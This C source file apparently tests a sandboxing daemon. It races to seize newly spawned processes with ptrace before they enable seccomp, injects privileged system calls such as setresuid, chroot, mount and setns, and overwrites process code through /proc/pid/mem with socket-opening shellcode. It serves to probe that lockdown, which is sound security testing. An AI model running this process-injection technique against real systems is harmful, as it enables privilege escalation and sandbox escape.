/*
 * ambush TITLE COUNT SECONDS: a tracer that seizes each new process before that has locked itself up, COUNT times, and
 * tries what it could be used for. One that cannot be seized is stopped, and its program is written over with another:
 * open a socket, and stay. Each is let go, and killed by SIGHUP, so that the next one comes.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "inject.h"
#include "report.h"

enum { AHEAD = 3, ENOUGH = 3 };

static bool is_unlocked(int pid)
{
	char path[64], text[4096], *line;
	ssize_t got;
	int file;

	snprintf(path, sizeof path, "/proc/%d/status", pid);
	file = open(path, O_RDONLY);
	got = file == -1 ? -1 : read(file, text, sizeof text - 1);
	close(file);
	text[got > 0 ? got : 0] = '\0';
	line = strstr(text, "\nSeccomp:\t");
	return line && line[10] == '0';
}

/* Stops at the entry of the call and at its return. Gives what it returned, or -1000 when the process has ended. */
static long inject(int pid, unsigned long at, long number, const long arguments[6])
{
	struct user_regs_struct before, after;
	int status;

	if (!get_registers(pid, &before))
		return -1000;
	after = before;
	aim(&after, at, number, arguments);
	set_registers(pid, &after);
	for (int stops = 0; stops < 2; stops++)
		if (ptrace(PTRACE_SYSCALL, pid, 0, 0) == -1 || waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
			return -1000;
	if (!get_registers(pid, &after))
		return -1000;
	set_registers(pid, &before);
	return result_in(&after);
}

static void report(const char *name, long result)
{
	say(name, "%s", result == -1000 ? "it ended" : result < 0 ? strerrorname_np((int)-result) : "ok");
}

/* What a capability, a descriptor or the keeper's memory would be good for. */
static void use(int pid, unsigned long at, unsigned long stack)
{
	static const char path[] = "/proc/1/root";
	struct iovec here = {(void *)path, sizeof path}, there = {(void *)(stack - 1024), sizeof path};
	long text = (long)stack - 1024;

	if (process_vm_writev(pid, &here, 1, &there, 1, 0) != (ssize_t)sizeof path)
		tell("process_vm_writev", -1);
	for (int number = 0; number < 128; number++) {
		/* Where the keeper and the entering process have theirs. */
		long flags = inject(pid, at, SYS_fcntl, (long[6]){number, F_GETFD});

		if (flags >= 0)
			say("descriptor", "%d", number);
	}
	report("setuid", inject(pid, at, SYS_setresuid, (long[6]){1, 1, 1}));
	report("chroot", inject(pid, at, SYS_chroot, (long[6]){text}));
	report("mount", inject(pid, at, SYS_mount, (long[6]){text, text, text, MS_BIND}));
	report("sethostname", inject(pid, at, SYS_sethostname, (long[6]){text, 4}));
	report("open", inject(pid, at, SYS_openat, (long[6]){AT_FDCWD, text, O_RDONLY}));
	report("namespace", inject(pid, at, SYS_setns, (long[6]){3, 0}));
}

/* The address of an instruction that makes a system call: it stops at the next one that it makes by itself. */
static bool find_call(int pid, unsigned long *at, unsigned long *stack)
{
	struct user_regs_struct registers;
	int status;

	if (ptrace(PTRACE_SYSCALL, pid, 0, 0) == -1 || waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status)
		|| !get_registers(pid, &registers))
		return false;
	*at = where(&registers) - INSTRUCTION;
	*stack = stack_in(&registers);
	/* And to the return of this call. */
	return ptrace(PTRACE_SYSCALL, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status);
}

#if defined(__x86_64__)
static const unsigned char nothing[] = {0x90};
/* socket(1, 1, 0), and then round and round */
static const unsigned char code[] = {0xb8, 41, 0, 0, 0, 0xbf, 1, 0, 0, 0, 0xbe, 1, 0, 0, 0, 0x31, 0xd2, 0x0f, 0x05, 0xeb, 0xfe};
#else
static const unsigned char nothing[] = {0x1f, 0x20, 0x03, 0xd5};
static const unsigned char code[] = {0xc8, 0x18, 0x80, 0xd2, 0x20, 0x00, 0x80, 0xd2, 0x21, 0x00, 0x80, 0xd2,
	0x02, 0x00, 0x80, 0xd2, 0x01, 0x00, 0x00, 0xd4, 0x00, 0x00, 0x00, 0x14};
#endif

static bool write_over(int pid)
{
	static unsigned char text[65536];
	unsigned long from, to;
	char path[64], line[512];
	FILE *maps;
	int memory;
	bool written = false;

	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	maps = fopen(path, "r");
	if (!maps || !fgets(line, sizeof line, maps) || sscanf(line, "%lx-%lx", &from, &to) != 2 || to - from > sizeof text)
		to = from = 0;
	if (maps)
		fclose(maps);
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	memory = open(path, O_RDWR);
	if (to > from && memory != -1) {
		for (size_t i = 0; i < to - from; i++)
			text[i] = nothing[i % sizeof nothing];
		memcpy(text + (to - from - sizeof code), code, sizeof code);
		written = pwrite(memory, text, to - from, (off_t)from) == (ssize_t)(to - from);
	}
	close(memory);
	return written;
}

/* Has it got its socket? It has a moment for it. */
static bool has_socket(int pid)
{
	for (int moment = 0; moment < 50 && kill(pid, 0) == 0; moment++) {
		for (int number = 0; number < 16; number++) {
			char path[64], target[64] = "";

			snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, number);
			if (readlink(path, target, sizeof target - 1) > 0 && strncmp(target, "socket:", 7) == 0)
				return true;
		}
		usleep(200);
	}
	return false;
}

static bool ambush(int pid)
{
	static int overwritten;
	unsigned long at, stack;
	int status;
	bool caught;

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == -1) {
		int error = errno;

		kill(pid, SIGSTOP);
		/* After each of these deaths the daemon waits longer: a few are enough. */
		if (overwritten < ENOUGH && is_unlocked(pid) && write_over(pid)) {
			overwritten++;
			kill(pid, SIGCONT);
			say("written over", "%s", has_socket(pid) ? "it obeys" : "it is killed");
		}
		kill(pid, SIGCONT);
		errno = error;
		return false;
	}
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
		return false;
	caught = is_unlocked(pid);
	if (caught && find_call(pid, &at, &stack) && is_unlocked(pid))
		use(pid, at, stack);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return caught;
}

int main(int count, char **arguments)
{
	long wanted, seen = 0, caught = 0, refused = 0;
	time_t end;
	int last = getpid();

	if (count != 4)
		return 64;
	wanted = atol(arguments[2]);
	end = time(NULL) + atol(arguments[3]);
	for (int pid = 1; pid < last; pid++) {
		char path[64], title[256] = "";
		int file;

		snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
		file = open(path, O_RDONLY);
		if (file != -1 && read(file, title, sizeof title - 1) > 0 && strcmp(title, arguments[1]) == 0)
			kill(pid, SIGHUP);
		close(file);
	}
	while (seen < wanted && time(NULL) < end) {
		for (int pid = last + 1; pid <= last + AHEAD; pid++) {
			if (kill(pid, 0) == -1)
				continue;
			seen++;
			errno = 0;
			if (ambush(pid))
				caught++;
			else if (errno == EPERM)
				refused++;
			last = pid;
			kill(pid, SIGHUP);
		}
	}
	say("seen", "%ld", seen);
	say("caught", "%ld", caught);
	say("refused", "%ld", refused);
	return 0;
}
